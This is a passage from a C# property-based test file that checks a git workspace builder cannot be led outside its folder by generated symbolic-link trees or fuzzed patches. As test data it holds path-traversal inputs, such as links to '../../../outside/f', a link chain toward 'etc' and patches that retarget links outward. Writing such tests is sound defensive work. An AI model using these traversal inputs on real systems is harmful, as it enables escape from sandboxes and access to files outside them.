        Repository.Init(mirror.Folder, true);
        return (disk, mirror, Remote);
    }

    private static string Commit(Repository repository, IEnumerable<Entry> entries)
    {
        var definition = new TreeDefinition();
        foreach (var entry in entries)
        {
            var blob = repository.ObjectDatabase.CreateBlob(
                new MemoryStream(Encoding.UTF8.GetBytes(entry.Kind == 'l' ? entry.Target : "content\n"))
            );
            definition.Add(
                entry.Kind == 'd' ? entry.Path + "/z" : entry.Path,
                blob,
                entry.Kind == 'l' ? Mode.SymbolicLink : Mode.NonExecutableFile
            );
        }

        var me = new Signature("a", "a@example.org", DateTimeOffset.UnixEpoch);
        return repository
            .ObjectDatabase.CreateCommit(me, me, "x", repository.ObjectDatabase.CreateTree(definition), [], false)
            .Sha;
    }

    private static string Write(Disk disk, GitMirror mirror, string commit, byte[]? patch, string saved) =>
        GitWorkspace
            .EnsureAsync(disk.Cache, mirror, commit, patch, new Dictionary<string, byte[]> { [saved] = [1] }, default)
            .GetAwaiter()
            .GetResult()
            .Folder;

    [Fact]
    public void Property_no_tree_of_links_leads_out_of_where_it_was_written()
    {
        NeedLinks();
        var (disk, mirror, remote) = Place();
        using var repository = new Repository(mirror.Folder);
        var written = 0;
        Hold(
            Gen.Choose(1, 9).SelectMany(n => Gen.ArrayOf(Entries, n)),
            entries =>
            {
                // As a commit, with the last entry's path as the run's saved code.
                var commit = Commit(repository, entries);
                try
                {
                    var folder = Write(disk, mirror, commit, null, entries[^1].Path + "/x.py");
                    written++;
                    disk.AssertNoWayOut(folder);
                    var copy = Path.Combine(disk.Root, "cache", "copy", "of", "it");
                    Workspace.CopyPlain(folder, copy, default);
                    disk.AssertNoWayOut(copy);
                    Directory.Delete(copy, true);
                }
                catch (LaunchException)
                {
                    disk.AssertUntouched();
                }

                // As a folder that somebody launches: the operating system itself made its links.
                var source = Path.Combine(disk.Root, "cache", "source", "of", "it");
                Directory.CreateDirectory(source);
                foreach (var entry in entries)
                {
                    try
                    {
                        var full = Path.Combine(source, entry.Path);
                        if (
                            RealPath(Path.GetDirectoryName(full)!) is { } real
                            && !real.StartsWith(source, StringComparison.Ordinal)
                        )
                        {
                            continue;
                        }

                        Directory.CreateDirectory(entry.Kind == 'd' ? full : Path.GetDirectoryName(full)!);
                        if (entry.Kind == 'l' && entry.Target.Length > 0)
                        {
                            File.CreateSymbolicLink(full, entry.Target);
                        }
                        else if (entry.Kind == 'f' && !Path.Exists(full) && new FileInfo(full).LinkTarget is null)
                        {
                            File.WriteAllText(full, "content");
                        }
                    }
                    catch (IOException)
                    {
                        // There is something else of this name.
                    }
                }

                disk.AssertUntouched();
                var target = Path.Combine(disk.Root, "cache", "target", "of", "it");
                Workspace.CopyFolder(source, target, new LaunchEnvironment().DataFolder, [], default);
                disk.AssertNoWayOut(target);
                Directory.Delete(source, true);
                Directory.Delete(target, true);
            }
        );
        Assert.True(written > 20, "some trees are good ones: " + written);
    }

    [Fact]
    public void Property_no_patch_leads_out_and_each_fault_has_a_name()
    {
        NeedLinks();
        var (disk, mirror, remote) = Place();
        using var repository = new Repository(mirror.Folder);
        var commit = Commit(
            repository,
            [
                new('f', "main.py", ""),
                new('f', "d/f.py", ""),
                new('f', "a b/\u00e9.py", ""),
                new('l', "l", "main.py"),
                new('l', "a/b/up", "../../d"),
            ]
        );
        string[] parts =
        [
            LinkPatch(("q", ".")),
            LinkPatch(("n", "main.py")),
            LinkPatch(("x", "q/../../../outside/f")),
            LinkPatch(("d/x", "../q/q/../../../../outside")),
            LinkPatch(("q", "."), ("d2", Chain("etc"))),
            "diff --git a/a/b/up b/up\nsimilarity index 100%\nrename from a/b/up\nrename to up\n",
            "diff --git a/l b/m/l\nsimilarity index 100%\ncopy from l\ncopy to m/l\n",
            "diff --git a/main.py b/main.py\nold mode 100644\nnew mode 100755\n",
            "diff --git a/main.py b/main.py\nold mode 100644\nnew mode 120000\n",
            "diff --git a/main.py b/main.py\ndeleted file mode 100644\n--- a/main.py\n+++ /dev/null\n@@ -1 +0,0 @@\n-content\n",
            "diff --git a/main.py b/main.py\n--- a/main.py\n+++ b/main.py\n@@ -1 +1,2 @@\n content\n+more\n",
            "diff --git a/l b/l\n--- a/l\n+++ b/l\n@@ -1 +1 @@\n-main.py\n\\ No newline at end of file\n+../../../outside/f\n\\ No newline at end of file\n",
            "diff --git \"a/a b/\\303\\251.py\" \"b/a b/\\303\\251.py\"\n--- \"a/a b/\\303\\251.py\"\t\n+++ \"b/a b/\\303\\251.py\"\t\n@@ -1 +1 @@\n-content\n+other\n",
            "diff --git a/new b/new\nnew file mode 100644\n--- /dev/null\n+++ b/new\n@@ -0,0 +1 @@\n+x\n",
        ];
        var words = new[]
        {
            "99999999999",
            "-1",
            "120000",
            "160000",
            "40000",
            "../../../outside/f",
            "/dev/null",
            "\"",
            "\\3",
            "\0",
            "\u0665",
            "@@",
            "\t",
            "a/",
            "q/",
            "\n",
            "",
        };
        var part =
            from text in Gen.Elements(parts)
            from changes in Gen.Choose(0, 3)
            from at in Gen.ArrayOf(Gen.Choose(0, 1000), 3)
            from length in Gen.ArrayOf(Gen.Elements(0, 0, 1, 2, 6, 20), 3)
            from word in Gen.ArrayOf(Gen.Elements(words), 3)
            select Enumerable
                .Range(0, changes)
                .Aggregate(
                    text,
                    (t, i) =>
                    {
                        var cut = t.Length == 0 ? 0 : at[i] % t.Length;
                        return t[..cut] + word[i] + t[Math.Min(t.Length, cut + length[i])..];
                    }
                );
        var written = 0;
        Hold(
            Gen.Choose(1, 4).SelectMany(n => Gen.ArrayOf(part, n)),
            patch =>
            {
                try
                {
                    var folder = Write(disk, mirror, commit, Encoding.UTF8.GetBytes(string.Concat(patch)), "q/x.py");
                    written++;
                    disk.AssertNoWayOut(folder);
                }
                catch (LaunchException)
                {
                    disk.AssertUntouched();
                }
            }
        );
        Assert.True(written > 20, "some patches are good ones: " + written);
    }
}
